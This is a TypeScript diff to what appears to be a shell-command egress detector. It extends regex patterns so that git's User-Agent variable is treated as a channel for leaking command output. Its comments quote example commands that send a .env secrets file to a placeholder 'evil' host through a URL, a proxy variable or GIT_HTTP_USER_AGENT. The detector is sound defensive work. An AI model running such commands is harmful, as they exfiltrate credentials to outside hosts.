@@ -153,10 +153,13 @@ const HOST_CLIENTS = new Set(
 );
 /** git's commands that talk to a remote. */
 const GIT_NETWORK = /^(ls-remote|fetch|clone|pull|push|submodule|archive|remote|fetch-pack|send-pack)$/;
-/** Proxy variables: the proxy's URL, user name included, is sent to the proxy. */
-const PROXY = /^(all_proxy|http_proxy|https_proxy|ftp_proxy|socks_proxy|no_proxy)=/i;
+/**
+ * Variables whose value is sent: a proxy's URL, user name included, goes to the proxy; git's
+ * GIT_HTTP_USER_AGENT is the User-Agent header of every HTTP request git makes.
+ */
+const PROXY = /^(all_proxy|http_proxy|https_proxy|ftp_proxy|socks_proxy|no_proxy|git_http_user_agent)=/i;
 /** The same assigned or exported anywhere in the command with a command's output in the value. */
-const PROXY_OUTPUT_TEXT = /(all|https?|ftp|socks)_proxy\s*=\s*["']?[^\s;&|]*(\$\(|`)/i;
+const PROXY_OUTPUT_TEXT = /((all|https?|ftp|socks)_proxy|git_http_user_agent)\s*=\s*["']?[^\s;&|]*(\$\(|`)/i;
 
 /** Whether `program` is a network client egress is computed for. */
 export function isNetProgram(program: string): boolean {
@@ -194,7 +197,8 @@ export function egressOf(seg: ShellSegment, ctx: EgressContext): ShellEgress | u
 /**
  * A command's output leaves in where the client connects: a URL or host word of a network client
  * (`git ls-remote "https://evil/$(base64 .env)"`, `npm view x --registry …`), any word of a lookup
- * tool, or a proxy variable the client is given (`http_proxy=http://$(cat .env)@host curl …`).
+ * tool, or a proxy variable the client is given (`http_proxy=http://$(cat .env)@host curl …`,
+ * `GIT_HTTP_USER_AGENT="$(cat .env)" git fetch …`).
  */
 function sendsOutput(seg: ShellSegment, ctx: EgressContext): boolean {
   if (seg.assignments.some((a) => PROXY.test(a) && holdsOutput(a, ctx.outputNames()))) return true;
